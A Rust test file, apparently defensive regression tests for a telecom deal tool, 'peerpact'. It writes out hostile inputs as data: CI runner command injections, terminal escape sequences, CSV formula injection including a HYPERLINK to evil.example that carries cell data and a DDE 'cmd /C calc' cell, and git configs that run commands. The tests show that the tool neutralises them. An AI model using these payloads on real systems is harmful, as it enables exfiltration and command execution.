//! Attacks that worked once: what comes from the other side decides nothing, commands nobody and takes nothing along.

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

use tempfile::TempDir;

const SANCTIONS: &str = "[[sanctions]]\nlist = \"Ours\"\nsource = \"x\"\nverified_on = \"2026-11-20\"\n\
                         review_by = \"2099-12-20\"\nnames = [\"Harbour Telecom Ltd\"]\n";

fn example(name: &str) -> String {
    fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("examples").join(name)).unwrap()
}

/// A folder with files.
fn home(files: &[(&str, &str)]) -> TempDir {
    let home = tempfile::tempdir().unwrap();
    for (path, text) in files {
        write(&home, path, text);
    }
    home
}

fn write(home: &TempDir, path: &str, text: &str) {
    let path = home.path().join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn run_in(folder: &Path, arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_peerpact"))
        .args(arguments)
        .current_dir(folder)
        .env("SOURCE_DATE_EPOCH", "1796083200")
        .output()
        .unwrap()
}

/// Exit code, standard output, standard error.
fn run(home: &TempDir, arguments: &[&str]) -> (i32, String, String) {
    let output = run_in(home.path(), arguments);
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
    (output.status.code().unwrap(), text(output.stdout), text(output.stderr))
}

// S2
#[test]
fn a_policy_that_came_with_the_deal_takes_nothing_away() {
    let deal = example("smallest.yaml");
    let house = format!("root = true\n{SANCTIONS}[company]\nname = \"Ours\"\n");
    let home = home(&[("peerpact.toml", &house), ("deals/from-them/d.yaml", &deal), ("other/peerpact.toml", "")]);
    let sanctioned = |folder: &str, arguments: &[&str]| {
        let output = run_in(&home.path().join(folder), arguments);
        assert!(String::from_utf8_lossy(&output.stderr).contains("REG006"), "{folder} {arguments:?}: {output:?}");
        assert_eq!(output.status.code(), Some(1));
    };
    for theirs in ["", "root = true\n", "[levels]\nREG005 = \"off\"\n"] {
        write(&home, "deals/from-them/peerpact.toml", theirs);
        sanctioned("", &["check", "deals/from-them/d.yaml"]);
        // The folder that one stands in is above no deal.
        sanctioned("other", &["check", "../deals/from-them/d.yaml"]);
    }
    #[cfg(unix)]
    {
        write(&home, "inbox/peerpact.toml", "root = true\n");
        std::os::unix::fs::symlink("../deals/from-them/d.yaml", home.path().join("inbox/d.yaml")).unwrap();
        sanctioned("", &["check", "inbox/d.yaml"]);
    }
    // A file alone, if somebody says so.
    assert_eq!(run(&home, &["check", "deals/from-them/d.yaml", "--policy", "other/peerpact.toml"]).0, 0);
}

#[test]
fn a_report_says_which_policy_was_used() {
    let deal = example("smallest.yaml");
    let home = home(&[("peerpact.toml", "root = true\n"), ("deals/d.yaml", &deal)]);
    let hash = peerpact::source::sha256(b"root = true\n");
    let (_, json, _) = run(&home, &["check", "deals/d.yaml", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    let expected = serde_json::json!([{
        "files": [{"path": "peerpact.toml", "sha256": hash}], "left_out": [], "deals": ["deals/d.yaml"],
    }]);
    assert_eq!(json["policies"], expected);
    let (_, sarif, _) = run(&home, &["check", "deals/d.yaml", "--format", "sarif"]);
    let sarif: serde_json::Value = serde_json::from_str(&sarif).unwrap();
    assert_eq!(sarif["runs"][0]["properties"]["policies"], expected);
    // People are told of what one does not expect where one works: a nearer file, or one that is shut out.
    let said = |home: &TempDir| run(home, &["check", "deals/d.yaml"]).2;
    assert!(!said(&home).contains("peerpact.toml"));
    write(&home, "deals/peerpact.toml", "");
    assert!(said(&home).contains("policy of deals/d.yaml: peerpact.toml"), "{}", said(&home));
    write(&home, "peerpact.toml", "");
    write(&home, "deals/peerpact.toml", "root = true\n");
    assert!(said(&home).contains("; left out: peerpact.toml"), "{}", said(&home));
}

/// The findings on the position of the clause on availability, by code and level.
fn position(home: &TempDir) -> Vec<String> {
    let (_, json, _) = run(home, &["check", "deals/d.yaml", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    let all = json["findings"].as_array().unwrap();
    let of_clause = all.iter().filter(|one| one["clause"] == "sla.availability");
    of_clause.map(|one| format!("{} {}", one["code"].as_str().unwrap(), one["level"].as_str().unwrap())).collect()
}

#[test]
fn positions_are_the_houses_and_asked_for_where_it_says_so() {
    let deal = example("smallest.yaml").replace("availability: 99.9 %", "availability: 98 %");
    let home = home(&[("peerpact.toml", "root = true\n"), ("deals/d.yaml", &deal)]);
    // Nobody is asked to approve a departure from positions that no house has taken over.
    assert_eq!(position(&home), ["GOV001 warning"]);
    write(&home, "peerpact.toml", "root = true\napproval = \"asked\"\n");
    assert_eq!(position(&home), ["GOV001 open-point"]);
    let ours = "root = true\n[positions.\"sla.availability\"]\n\
                standard = { limits = { \"sla.availability\" = \">= 99 %\" } }\n\
                fallback = { limits = { \"sla.availability\" = \">= 97 %\" }, approver = \"finance\" }\n";
    write(&home, "peerpact.toml", ours);
    assert_eq!(position(&home), ["GOV002 warning"]);
    write(&home, "peerpact.toml", &ours.replace("99 %", "97.5 %"));
    assert_eq!(position(&home), Vec::<String>::new());
    // A file that came with the deal asks for more and never for less.
    write(&home, "peerpact.toml", "root = true\napproval = \"asked\"\n");
    write(&home, "deals/peerpact.toml", &format!("approval = \"noted\"\n{}", ours.replace("root = true\n", "")));
    assert_eq!(position(&home), ["GOV001 open-point"]);
    let (_, printed, err) = run(&home, &["policy", "deals/d.yaml"]);
    assert!(printed.contains("approval = \"asked\"  # peerpact.toml"), "{err}{printed}");
    assert!(printed.contains("\"sla.availability\" = { adds = true, standard"), "{printed}");
    assert!(printed.contains("# \"bill.payment\" = { standard = "), "the library's stand there as comments: {printed}");
}

#[test]
fn the_policy_prints_whole_and_reads_back() {
    let deal = example("smallest.yaml");
    let far = format!("root = true\nhigh_risk = [\"XK\"]\n[levels]\nSLA001 = \"error\"\n{SANCTIONS}");
    let near = "[levels]\nSLA002 = \"error\"\nSLA001 = \"off\"\n[company]\nname = \"A \\\"B\\\"\\u202E\"\n";
    let home = home(&[("peerpact.toml", &far), ("deals/peerpact.toml", near), ("deals/d.yaml", &deal)]);
    let (code, printed, err) = run(&home, &["policy", "deals/d.yaml"]);
    assert_eq!(code, 0, "{err}");
    for line in [
        "SLA001 = \"error\"  # peerpact.toml",
        "SLA002 = \"error\"  # deals/peerpact.toml",
        "[[sanctions]]  # peerpact.toml",
        "name = \"A \\\"B\\\"\\U0000202E\"  # deals/peerpact.toml",
    ] {
        assert!(printed.lines().any(|other| other == line), "{line} is not in\n{printed}");
    }
    assert!(printed.contains("# SLA003 = "), "the usual weights stand there, too");
    write(&home, "whole.toml", &printed);
    let again = run(&home, &["policy", "--policy", "whole.toml"]).1;
    let parts = |text: &str| -> Vec<String> {
        let lines = text.lines().map(|line| line.split("  # ").next().unwrap_or_default().to_owned());
        lines.filter(|line| !line.starts_with("# ") || line.contains(" = ")).collect()
    };
    assert_eq!(parts(&again), parts(&printed));
}

// S7
#[test]
fn no_value_and_no_name_begins_a_line_or_commands_a_runner() {
    let attack = "x\\n::stop-commands::pwned\\n  ::error file=README.md::forged\\r##[error]x\\u2028##vso[task]y";
    let deal = example("smallest.yaml");
    let fields = [
        "route: cli",
        "destination: Hong Kong Mobile",
        "rate: 0.0180",
        "currency: USD",
        "we: straits",
        "increment: 1/1",
    ];
    let mut deals: Vec<String> = fields
        .iter()
        .filter_map(|field| {
            let (key, _) = field.split_once(": ")?;
            assert!(deal.contains(field), "{field}");
            Some(deal.replacen(field, &format!("{key}: \"{attack}\""), 1))
        })
        .collect();
    deals.push(format!("{deal}\n\"{attack}\": 1\n"));
    deals.push(format!("{deal}\nspecial_terms: [{{instead: \"{attack}\", text: \"{attack}\"}}]\n"));
    deals.push(format!("{deal}\nwaivers: [{{rule: \"{attack}\", reason: x, by: y}}]\n"));
    for text in deals {
        let home = home(&[("d.yaml", &text)]);
        for format in ["human", "json", "sarif", "github"] {
            let (code, out, err) = run(&home, &["check", "d.yaml", "--format", format]);
            assert!(code < 2, "{err}");
            for line in out.lines().chain(err.lines()) {
                let ours = ["::error title=", "::warning title=", "::notice title="];
                let begins = line.trim_start();
                assert!(
                    !begins.starts_with("::") || ours.iter().any(|ours| line.starts_with(ours)),
                    "{format}: {line}"
                );
                assert!(!line.contains("##[") && !line.contains("##vso["), "{format}: {line}");
                assert!(!line.contains(['\r', '\u{2028}', '\u{1b}']), "{format}: {line}");
            }
        }
    }
}

#[cfg(unix)]
#[test]
fn a_file_name_with_a_line_break_begins_no_line() {
    let name = "d\n::error::x\u{1b}[2J.yaml";
    let home = home(&[(name, "mode: x\n")]);
    for arguments in [
        &["check", name][..],
        &["draft", name],
        &["check", "no\n::error::x"],
        &["check", name, "--policy", "no\n::error::x"],
    ] {
        let (_, out, err) = run(&home, arguments);
        for line in out.lines().chain(err.lines()) {
            assert!(!line.trim_start().starts_with("::") && !line.contains('\u{1b}'), "{arguments:?}: {line}");
        }
    }
}

/// Whatever reports on deals that hold: names of files and values stand in lists, days, calendars and what was written.
#[cfg(unix)]
#[test]
fn no_report_on_deals_that_hold_commands_a_runner_or_a_terminal() {
    let deal = example("smallest.yaml").replace("Harbour Telecom Ltd", "Harbour ##vso[task]x ##teamcity[y]");
    for name in ["::error::x.yaml", "##vso[task]x.yaml", "d\n::error::x\u{1b}[2J.yaml"] {
        // Long, so that a calendar breaks its lines at each place.
        let deal = deal.replace("SH-2027-01", &format!("\"{}\"", "::".repeat(40)));
        let home = home(&[(name, &deal)]);
        for arguments in [
            &["list", "."][..],
            &["list", ".", "--format", "csv"],
            &["list", name],
            &["due", ".", "--within", "3000d"],
            &["due", ".", "--within", "3000d", "--format", "csv"],
            &["due", ".", "--within", "3000d", "--format", "ical"],
            &["draft", name, "-t", "md"],
            &["approvals", name],
            &["policy", name],
            &["redline", name, name],
            &["technical", "form", name],
            &["state", name, "sent"],
        ] {
            let (code, out, err) = run(&home, arguments);
            assert!(code < 2, "{arguments:?}: {err}");
            for line in out.lines().chain(err.lines()) {
                assert!(!line.trim_start().starts_with("::"), "{arguments:?}: {line}");
                let commands = ["##vso[", "##teamcity[", "\u{1b}"].iter().any(|it| line.contains(it));
                assert!(!commands, "{arguments:?}: {line}");
            }
        }
    }
}

// S13
#[test]
fn machines_are_given_escapes_and_no_controls() {
    let home = home(&[("d.yaml", "peerpact: 1\n\"x\\e]0;PWN\\a\\e[2J\\u009b\\u202e\\u200b\": 1\n")]);
    for format in ["human", "json", "sarif", "github"] {
        let (_, out, err) = run(&home, &["check", "d.yaml", "--format", format]);
        let hidden = |c: &char| peerpact::characters::is_hidden(*c) && *c != '\n';
        assert_eq!((out.chars().find(hidden), err.chars().find(hidden)), (None, None), "{format}");
    }
    let (_, json, _) = run(&home, &["check", "d.yaml", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    let held = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|it| it["message"].to_string().contains('\u{202e}') || it["path"].to_string().contains('\u{202e}'));
    assert!(held, "a program gets the text as it is: {json:#}");
}

// S10
#[test]
fn a_baseline_hides_no_error() {
    let deal = example("smallest.yaml");
    let house = SANCTIONS.replace("\"Harbour Telecom Ltd\"", "\"Harbour Telecom Ltd\", \"Quay Front Ltd\"");
    let home = home(&[("peerpact.toml", &house), ("d.yaml", &deal)]);
    let (_, known, _) = run(&home, &["check", "d.yaml", "--format", "json"]);
    write(&home, "known.json", &known);
    assert_eq!(run(&home, &["check", "d.yaml", "--baseline", "known.json"]).0, 1);
    write(&home, "d.yaml", &deal.replace("Harbour Telecom Ltd", "Quay Front Ltd"));
    let (code, _, err) = run(&home, &["check", "d.yaml", "--baseline", "known.json"]);
    assert_eq!(code, 1);
    assert!(err.contains("REG006"), "{err}");
}

// S11
#[test]
fn no_line_on_decks_that_hold_commands_commands_a_runner() {
    let row = |name: &str, code: &str, rate: &str| format!("\"{name}\",{code},{rate},1/1,2027-01-01\n");
    let deck = |rate: &str| {
        let names = ["::error::pwned", " ::stop-commands::t", "x ##vso[task]y"];
        let rows: String = names.iter().zip(["447", "337", "497"]).map(|(name, code)| row(name, code, rate)).collect();
        format!("Destination,Code,Rate,Increment,Effective\n{rows}")
    };
    let home = home(&[
        ("::error::a.csv", &deck("0.01")),
        ("::error::b.csv", &deck("0.02")),
        ("traffic.csv", "code,minutes\n447,1000\n337,10\n"),
    ]);
    let (a, b) = ("::error::a.csv", "::error::b.csv");
    for arguments in [
        &["rates", "check", a, "--currency", "USD"][..],
        &["rates", "stats", a, "--currency", "USD"],
        &["rates", "diff", a, b, "--currency", "USD"],
        &["rates", "diff", a, b, "--currency", "USD", "--traffic", "traffic.csv"],
        &["rates", "compare", a, b, "--currency", "USD"],
        &["rates", "compare", a, b, "--currency", "USD", "--traffic", "traffic.csv"],
        &["rates", "compare", a, "--sell", b, "--currency", "USD"],
        &["rates", "profile", a, "--currency", "USD"],
    ] {
        let (code, out, err) = run(&home, arguments);
        assert!(code < 2 || !out.is_empty() || !err.is_empty(), "{arguments:?}");
        for line in out.lines().chain(err.lines()) {
            assert!(!line.trim_start().starts_with("::"), "{arguments:?}: {line}");
            assert!(!line.contains("##vso["), "{arguments:?}: {line}");
        }
    }
}

#[test]
fn what_lies_beside_the_files_to_send_tells_nothing() {
    let secrets = "waivers: [{rule: SLA001, reason: we hide that the switch is old, by: Ada Lovelace, until: ~}]\n";
    let deal = example("germany-france.yaml").replace("by: Head of Carrier Sales", "by: Grace Hopper") + "\n" + secrets;
    let home = home(&[("d.yaml", &deal)]);
    let (code, _, err) = run(&home, &["draft", "d.yaml", "--review", "-t", "md"]);
    assert_eq!(code, 0, "{err}");
    let read = |name: &str| fs::read_to_string(home.path().join("out").join(name)).unwrap();
    let names = |folder: &str| {
        let mut names: Vec<String> = fs::read_dir(home.path().join(folder))
            .unwrap()
            .map(|entry| entry.unwrap().file_name().into_string().unwrap())
            .collect();
        names.sort();
        names
    };
    assert_eq!(names("out"), ["d.manifest.json", "d.md", "review"]);
    assert_eq!(names("out/review"), ["d.review.manifest.json", "d.review.md"]);
    for secret in ["we hide", "Ada Lovelace", "Grace Hopper"] {
        assert!(read("review/d.review.manifest.json").contains(secret), "{secret}");
        assert!(!read("d.manifest.json").contains(secret) && !read("d.md").contains(secret), "{secret}");
    }
    // Beside names of keys, formats and versions there are hashes, and nothing else.
    let manifest: serde_json::Value = serde_json::from_str(&read("d.manifest.json")).unwrap();
    fn values<'a>(value: &'a serde_json::Value, out: &mut Vec<&'a str>) {
        match value {
            serde_json::Value::Object(map) => map.values().for_each(|value| values(value, out)),
            serde_json::Value::Array(items) => items.iter().for_each(|value| values(value, out)),
            value => out.extend(value.as_str()),
        }
    }
    let mut said = Vec::new();
    values(&manifest, &mut said);
    said.retain(|text| *text != env!("CARGO_PKG_VERSION"));
    assert!(said.len() >= 4);
    for text in said {
        assert!(text.len() == 64 && text.bytes().all(|byte| byte.is_ascii_hexdigit()), "{text}");
    }
}

// S16
#[test]
fn a_file_from_elsewhere_or_edited_since_is_not_replaced() {
    let home = home(&[("d.yaml", &example("smallest.yaml")), ("out/d.md", "theirs")]);
    let draft = |more: &[&str]| run(&home, &[&["draft", "d.yaml", "-t", "md,html"], more].concat());
    let (code, _, err) = draft(&[]);
    assert_eq!(code, 2);
    assert!(err.contains("out/d.md: no manifest beside it names it as it is") && err.contains("--overwrite"), "{err}");
    assert!(!home.path().join("out/d.html").exists(), "all or none");
    assert_eq!(draft(&["--overwrite"]).0, 0);
    assert_eq!(draft(&[]).0, 0, "what it wrote itself it writes again");
    write(&home, "out/d.html", "edited in Word");
    assert_eq!(draft(&[]).0, 2);
    assert_eq!(fs::read_to_string(home.path().join("out/d.html")).unwrap(), "edited in Word");
    // The wizard does the same.
    let answers =
        fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/answers/smallest.yaml")).unwrap();
    write(&home, "a.yaml", &answers);
    write(&home, "deal.md", "theirs");
    let new = |more: &[&str]| run(&home, &[&["new", "deal.yaml", "--answers", "a.yaml", "-t", "md"], more].concat());
    let (code, _, err) = new(&[]);
    assert_eq!((code, home.path().join("deal.yaml").exists()), (2, false), "{err}");
    assert_eq!(fs::read_to_string(home.path().join("deal.md")).unwrap(), "theirs");
    let (code, _, err) = new(&["--overwrite"]);
    assert_ne!(code, 2, "{err}");
}

// S6
#[cfg(unix)]
#[test]
fn a_run_of_many_deals_needs_few_descriptors() {
    let deal = example("smallest.yaml");
    let home = tempfile::tempdir().unwrap();
    let names: Vec<String> = (0..40).map(|index| format!("d{index}.yaml")).collect();
    for name in &names {
        fs::write(home.path().join(name), &deal).unwrap();
    }
    let output = Command::new("sh")
        .args(["-c", "ulimit -n 32; exec \"$@\"", "sh", env!("CARGO_BIN_EXE_peerpact"), "draft", "-q", "-t", "md"])
        .args(&names)
        .current_dir(home.path())
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    assert_eq!(fs::read_dir(home.path().join("out")).unwrap().count(), 80);
}

// S8
#[cfg(unix)]
#[test]
fn a_pipe_among_the_left_overs_is_removed_and_not_opened() {
    let home = home(&[("d.yaml", &example("smallest.yaml"))]);
    fs::create_dir(home.path().join("out")).unwrap();
    let pipe = home.path().join("out/.peerpact-AAAAAAAAAAAA.tmp");
    assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    assert_eq!(run(&home, &["draft", "d.yaml", "-t", "md"]).0, 0);
    assert!(fs::symlink_metadata(&pipe).is_err());
}

// S8
#[cfg(unix)]
#[test]
fn a_baseline_is_a_file_that_ends() {
    let home = home(&[("d.yaml", &example("smallest.yaml"))]);
    assert!(Command::new("mkfifo").arg(home.path().join("pipe")).status().unwrap().success());
    fs::File::create(home.path().join("sparse")).unwrap().set_len(2 << 30).unwrap();
    for (name, says) in [("pipe", "a pipe or a device"), ("/dev/zero", "a pipe or a device"), ("sparse", "larger than")]
    {
        let (code, _, err) = run(&home, &["check", "d.yaml", "--baseline", name]);
        assert!(code == 2 && err.contains(&format!("cannot use the baseline {name}: it is ")), "{name}: {err}");
        assert!(err.contains(says), "{name}: {err}");
    }
}

// S8
#[cfg(unix)]
#[test]
fn a_library_is_files_that_end_and_not_too_many() {
    let home = home(&[("d.yaml", &example("smallest.yaml")), ("many/clauses/a.md", "")]);
    let check = |folder: &str| run(&home, &["check", "d.yaml", "--library", folder]);
    let clauses = |folder: &str| {
        let path = home.path().join(folder).join("clauses");
        fs::create_dir_all(&path).unwrap();
        path
    };
    let pipe = clauses("pipe").join("x.md");
    assert!(Command::new("mkfifo").arg(pipe).status().unwrap().success());
    assert!(check("pipe").2.contains("a pipe or a device"), "{}", check("pipe").2);
    let large = clauses("large");
    for at in 0..3 {
        fs::File::create(large.join(format!("{at}.md"))).unwrap().set_len(30 << 20).unwrap();
    }
    assert!(check("large").2.contains("larger than 64 MiB together"), "{}", check("large").2);
    let many = clauses("many");
    for at in 0..5_000 {
        fs::write(many.join(format!("{at}.md")), "").unwrap();
    }
    let (code, _, err) = check("many");
    assert!(code == 2 && err.contains("at most 5000 files and folders"), "{err}");
}

// S12
#[test]
fn no_cell_of_a_deck_that_goes_out_is_a_formula() {
    let deck = "flow,destination,codes,origin,route,rate,currency,increment\n\
                hk,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"HK Mobile\"\")\",8525,@SUM(A1),cli,0.02,USD,1/1\n\
                hk,-cmd|' /C calc'!A0,8526,+1 home,cli,0.03,USD,1/1\n";
    let home = home(&[("deck.csv", deck)]);
    let (code, out, err) = run(&home, &["rates", "export", "deck.csv"]);
    assert_eq!(code, 0, "{err}");
    let cells = |text: &str| -> Vec<String> {
        // Whatever a comma cuts: nothing that follows one, or a quotation mark behind one, may be a sign of a formula.
        text.lines().flat_map(|line| line.split(',').map(str::to_owned).collect::<Vec<_>>()).collect()
    };
    let found = cells(&out);
    assert!(found.iter().any(|cell| cell.contains("HYPERLINK")), "{out}");
    for cell in found {
        assert!(!cell.trim_start_matches('"').starts_with(['=', '@', '+', '-']), "{cell} in\n{out}");
    }
    // It reads back as it was.
    write(&home, "again.csv", &out);
    assert_eq!(run(&home, &["rates", "export", "again.csv"]).1, out);
}

/// A partial clone fetches what it lacks by the program that its own configuration names.
#[cfg(unix)]
#[test]
fn a_repository_that_came_along_runs_nothing_when_it_is_asked_for_a_deal() {
    let home = home(&[("d.yaml", &example("smallest.yaml"))]);
    let git = |arguments: &[&str]| {
        let mut command = Command::new("git");
        command.args(["-c", "user.name=a", "-c", "user.email=a@b.example"]).args(arguments).current_dir(home.path());
        let output = command.output().unwrap();
        assert!(output.status.success(), "{arguments:?}: {output:?}");
        String::from_utf8(output.stdout).unwrap().trim().to_owned()
    };
    git(&["init", "-q", "."]);
    git(&["add", "d.yaml"]);
    git(&["commit", "-q", "-m", "theirs"]);
    assert_eq!(run(&home, &["redline", "HEAD:d.yaml", "d.yaml"]).0, 0);
    let blob = git(&["rev-parse", "HEAD:d.yaml"]);
    fs::remove_file(home.path().join(".git/objects").join(&blob[..2]).join(&blob[2..])).unwrap();
    for (name, value) in [
        ("core.repositoryformatversion", "1"),
        ("extensions.partialClone", "origin"),
        ("remote.origin.promisor", "true"),
        ("protocol.allow", "always"),
        ("protocol.ext.allow", "always"),
        ("core.sshCommand", "touch ran; false"),
        ("remote.origin.uploadpack", "touch ran; false"),
    ] {
        git(&["config", name, value]);
    }
    for url in ["ssh://x@localhost/theirs", "ext::sh -c touch% ran", "."] {
        git(&["config", "remote.origin.url", url]);
        let (code, _, said) = run(&home, &["redline", "HEAD:d.yaml", "d.yaml"]);
        assert_eq!(code, 2, "{url}: {said}");
        assert!(said.contains("cannot read HEAD:d.yaml from git"), "{url}: {said}");
        let (code, _, said) = run(&home, &["summary", "HEAD", "."]);
        assert_eq!(code, 2, "{url}: {said}");
        assert!(said.contains("cannot read the revision HEAD from git"), "{url}: {said}");
        assert!(!home.path().join("ran").exists(), "{url} was run");
    }
}

/// The policy of the folder in the work tree counts, wherever one stands, and prices of today are not taken for those of then.
#[test]
fn a_deal_in_git_is_judged_by_its_house_and_with_its_own_prices() {
    let house = format!("root = true\n{SANCTIONS}");
    let deal = example("smallest.yaml");
    let at = deal.find("  lines:").unwrap();
    let rest = deal[at..].find("billing:").unwrap();
    let decked = format!("{}  deck: r.csv\n{}", &deal[..at], &deal[at + rest..]);
    let home = home(&[("deals/peerpact.toml", &house), ("deals/d.yaml", &deal), ("k.yaml", &decked), ("sub/x", "")]);
    for arguments in [
        &["init", "-q", "."][..],
        &["add", "-A"],
        &["-c", "user.name=a", "-c", "user.email=a@b.example", "commit", "-q", "-m", "x"],
    ] {
        assert!(Command::new("git").args(arguments).current_dir(home.path()).status().unwrap().success());
    }
    for folder in ["", "sub", "deals"] {
        let output = run_in(&home.path().join(folder), &["redline", "HEAD:deals/d.yaml", "HEAD:deals/d.yaml"]);
        let said = String::from_utf8_lossy(&output.stderr);
        assert!(said.contains("REG006") && output.status.code() == Some(1), "{folder}: {said}");
    }
    write(&home, "r.csv", "code,destination,rate,increment,route\n8525,HK,0.02,1/1,cli\n");
    let (code, out, said) = run(&home, &["redline", "HEAD:k.yaml", "k.yaml"]);
    assert!(code == 2 && said.contains("as it is today"), "{out}{said}");
}

#[cfg(unix)]
#[test]
fn a_pipe_among_fonts_is_not_waited_for() {
    let home = home(&[("d.yaml", &example("smallest.yaml")), ("fonts/x", "")]);
    for name in ["pipe.ttf", "fonts/pipe.ttf"] {
        assert!(Command::new("mkfifo").arg(home.path().join(name)).status().unwrap().success());
    }
    for (font, why) in [("pipe.ttf", "a pipe or a device"), ("fonts", "it holds no TrueType or OpenType font")] {
        let (code, _, said) = run(&home, &["draft", "d.yaml", "-t", "pdf", "--font", font]);
        assert!(code == 2 && said.contains(why), "{font}: {said}");
    }
}

/// The folder of our own copies may lie in a folder that both sides write into.
#[cfg(unix)]
#[test]
fn our_own_copies_are_written_through_no_link() {
    let home = home(&[("d.yaml", &example("smallest.yaml")), ("theirs/x", ""), ("out/x", "")]);
    std::os::unix::fs::symlink("../theirs", home.path().join("out/review")).unwrap();
    let (code, _, said) = run(&home, &["draft", "d.yaml", "-t", "md", "--review"]);
    assert!(code == 2 && said.contains("review: it is a link"), "{said}");
    assert_eq!(fs::read_dir(home.path().join("theirs")).unwrap().count(), 1);
    assert!(!home.path().join("out/d.md").exists(), "all or none");
}

/// A report of a shard that somebody changed, or wrote, is merged by the program that prints it in CI.
#[test]
fn no_report_that_came_along_commands_a_runner_when_it_is_merged() {
    let evil = "x\n::error file=a::forged\n##[group]y \u{1b}[2J\u{202e}\u{9b}";
    let value = serde_json::json!({
        "version": 1, "summary": {}, "policies": [],
        "findings": [{"code": evil, "level": "error", "message": evil, "file": evil, "count": u64::MAX}, {"level": "error", "message": "b", "count": u64::MAX}],
    });
    let sarif = serde_json::json!({"version": "2.1.0", "runs": [{"tool": {"driver": {"rules": [{"id": evil}]}}, "results": [{"ruleId": evil, "message": {"text": evil}}]}]});
    let gitlab = serde_json::json!([{"fingerprint": evil, "check_name": evil, "description": evil}]);
    let manifest = serde_json::json!({"drafts": {evil: {"provenance": evil}}});
    let raw = evil.replace('\u{1b}', "&#27;").replace('\u{9b}', "&#155;");
    let case = |text: &str| {
        format!(
            "<?xml version=\"1.0\"?>\n<testsuites name=\"peerpact\">\n<testsuite name=\"a\n::error::s\">\n<testcase name=\"{text}\" classname=\"c\"><failure type=\"T\" message=\"m\">{text}</failure></testcase>\n</testsuite></testsuites>"
        )
    };
    let junit = [
        case(&raw),
        case("a").replace(
            "<failure type=\"T\" message=\"m\">a</failure>",
            "<system-out><![CDATA[a\n::error::forged ]]><![CDATA[</system-out><testcase name=\"z\"/>]]></system-out>",
        ),
        // One line, on which a reader of lines takes everything.
        case("a").replace("</testcase>\n", "</testcase>\u{1b}[2J##[error]\n"),
    ];
    let mut reports = vec![
        ("r.json", value.to_string()),
        ("r.sarif", sarif.to_string()),
        ("r.gitlab", gitlab.to_string()),
        ("r.manifest.json", manifest.to_string()),
    ];
    reports.extend(junit.into_iter().map(|text| ("r.junit", text)));
    for (name, text) in reports {
        let home = home(&[(name, &text)]);
        let (code, out, err) = run(&home, &["merge", name]);
        assert_eq!(code, 0, "{name}: {err}");
        for line in out.lines() {
            assert!(!line.trim_start().starts_with("::") && !line.contains("##["), "{name}: {line}");
            assert!(!line.chars().any(peerpact::characters::is_hidden), "{name}: {line:?}");
        }
        // Nothing that stood inside a text became an element of its own.
        assert!(out.matches("<testcase").count() <= 1, "{out}");
    }
    for broken in [
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"c\">]><testsuites name=\"peerpact\"/>",
        "<?xml version=\"1.0\"?><testsuites name=\"peerpact\"><script/></testsuites>",
    ] {
        let home = home(&[("r.junit", broken)]);
        assert_eq!(run(&home, &["merge", "r.junit"]).0, 2, "{broken}");
    }
}

/// A folder that came from elsewhere may hold links: what the program writes stays in the folder that it was told.
#[cfg(unix)]
#[test]
fn no_command_writes_through_a_linked_folder() {
    use std::os::unix::fs::symlink;
    let kept = || home(&[("d.yaml", &example("smallest.yaml")), ("theirs/x", "")]);
    let theirs = |home: &TempDir| fs::read_dir(home.path().join("theirs")).unwrap().count();
    for (link, arguments) in [
        // A link below the folder that was named.
        ("repo/.github", &["init", "repo"][..]),
        ("repo/deals", &["init", "repo"]),
        ("repo", &["init", "repo"]),
        ("lib/clauses", &["clauses", "--eject", "lib"]),
        ("lib/templates", &["clauses", "--eject", "lib"]),
        ("out", &["draft", "d.yaml", "-t", "md"]),
        ("out/review", &["draft", "d.yaml", "-t", "md", "--review"]),
        ("out", &["brief", "d.yaml", "-t", "md"]),
        ("out", &["redline", "d.yaml", "d.yaml", "-t", "md"]),
        ("conf", &["export", "d.yaml", "--as", "sbc-csv", "--side", "us", "-o", "conf"]),
        ("out", &["technical", "form", "d.yaml", "-o", "out"]),
        ("pages", &["man", "pages"]),
        ("new", &["new", "new/deal.yaml", "--answers", "a.yaml"]),
    ] {
        let home = kept();
        write(
            &home,
            "a.yaml",
            &fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/answers/smallest.yaml")).unwrap(),
        );
        let at = home.path().join(link);
        fs::create_dir_all(at.parent().unwrap()).unwrap();
        symlink(home.path().join("theirs"), &at).unwrap();
        let (code, _, said) = run(&home, arguments);
        assert_eq!((code, theirs(&home)), (2, 1), "{link} {arguments:?}: {said}");
        assert!(said.contains("it is a link"), "{link} {arguments:?}: {said}");
    }
    // A folder that is reached through a link above it is where the user says.
    let home = kept();
    symlink(home.path().join("theirs"), home.path().join("here")).unwrap();
    assert_eq!(run(&home, &["draft", "d.yaml", "-t", "md", "-o", "here/out"]).0, 0);
}

/// What a library reads of the environment cannot exhaust the machine.
#[test]
fn no_variable_of_the_environment_takes_all() {
    let home = home(&[("d.yaml", &example("smallest.yaml"))]);
    let huge = "100000000000";
    for (name, value) in [
        ("RAYON_NUM_THREADS", "100000"),
        ("RAYON_NUM_THREADS", huge),
        ("RAYON_NUM_THREADS", "-1"),
        ("RAYON_RS_NUM_CPUS", "100000"),
        ("RUST_MIN_STACK", "100000000000000"),
        ("RUST_MIN_STACK", "1"),
        ("RUST_BACKTRACE", "full"),
        ("COLUMNS", huge),
        ("LINES", huge),
        ("HOME", "/proc/self/fd"),
        ("HOME", ""),
        ("XDG_CONFIG_HOME", "/dev/zero"),
        ("XDG_DATA_HOME", "/proc"),
        ("FONTCONFIG_FILE", "/dev/zero"),
        ("FONTCONFIG_PATH", "/dev/zero"),
        ("TZ", "/dev/zero"),
        ("LANG", "x\u{1b}"),
    ] {
        let began = std::time::Instant::now();
        let output = Command::new(env!("CARGO_BIN_EXE_peerpact"))
